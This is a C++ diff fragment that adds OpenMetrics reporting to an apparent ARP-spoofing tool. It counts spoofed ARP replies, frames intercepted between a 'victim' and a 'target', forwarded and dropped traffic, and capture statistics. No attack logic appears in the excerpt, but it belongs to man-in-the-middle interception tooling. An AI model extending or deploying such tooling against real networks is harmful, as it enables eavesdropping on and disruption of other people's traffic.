+	const TrafficStatistics::DirectionCounters& fromVictim = snapshot.direction(TrafficStatistics::Direction::VictimToTarget);
+	const TrafficStatistics::DirectionCounters& fromTarget = snapshot.direction(TrafficStatistics::Direction::TargetToVictim);
+	const std::string victimLabel = "direction=\"victim_to_target\"";
+	const std::string targetLabel = "direction=\"target_to_victim\"";
+	
+	OpenMetricsWriter writer;
+	writer.counter("arpspoof_arp_sent", "Spoofed ARP replies sent.", snapshot.arpSent);
+	writer.counter("arpspoof_received_frames", "Frames delivered by the capture sockets.", snapshot.received);
+	writer.counter("arpspoof_received_bytes", "Bytes delivered by the capture sockets.", snapshot.receivedBytes, "bytes");
+	writer.counter("arpspoof_forwarded_frames", "Intercepted frames forwarded.", snapshot.forwarded);
+	writer.counter("arpspoof_forwarded_bytes", "Intercepted bytes forwarded.", snapshot.forwardedBytes, "bytes");
+	writer.counter("arpspoof_dropped_frames", "Intercepted frames dropped in drop mode.", snapshot.dropped);
+	writer.counter("arpspoof_send_failures", "Frames the socket did not accept for sending.", snapshot.sendFailures);
+	writer.counter("arpspoof_kernel_drops", "Frames dropped by the kernel because the receive buffer or ring was full.",
+	               snapshot.kernelDrops);
+	
+	writer.family("arpspoof_intercepted_frames", "counter", "Intercepted frames by direction.");
+	writer.sample("arpspoof_intercepted_frames_total", fromVictim.frames, victimLabel);
+	writer.sample("arpspoof_intercepted_frames_total", fromTarget.frames, targetLabel);
+	writer.family("arpspoof_intercepted_bytes", "counter", "Intercepted bytes by direction.", "bytes");
+	writer.sample("arpspoof_intercepted_bytes_total", fromVictim.bytes, victimLabel);
+	writer.sample("arpspoof_intercepted_bytes_total", fromTarget.bytes, targetLabel);
+	
+	writer.histogram("arpspoof_forward_latency_seconds",
+	                 "Time from the socket wakeup delivering a frame to the end of its send.", snapshot.forwardLatency);
+	writer.histogram("arpspoof_arp_send_seconds", "Duration of one spoofed ARP send.", snapshot.arpSendTime);
+	writer.histogram("arpspoof_loop_iteration_seconds", "Time spent handling one socket wakeup.", snapshot.loopTime);
+	
+	if (capture) {
+		CaptureWriter::Statistics captured = capture->getStatistics();
+		writer.counter("arpspoof_capture_frames", "Intercepted frames written to the capture.", captured.frames);
+		writer.counter("arpspoof_capture_dropped_frames", "Frames lost because the capture writer was behind.",
+		               captured.dropped);
+	}
+	if (pipeline) {
+		ForwardingPipeline::Counters counters = pipeline->getCounters();
+		writer.counter("arpspoof_queue_full", "Frames lost because the pipeline queue was full.", counters.queueFull);
+		writer.counter("arpspoof_oversized_frames", "Frames larger than a pipeline slot.", counters.oversized);
+		writer.gauge("arpspoof_queue_depth", "Frames waiting for the transmit thread.", counters.queueDepth);
+		writer.gauge("arpspoof_queue_depth_max", "Highest observed pipeline queue depth.", counters.maxQueueDepth);
+	}
+	return writer.text();
 }
 
 void App::log(int level, const std::string& message) {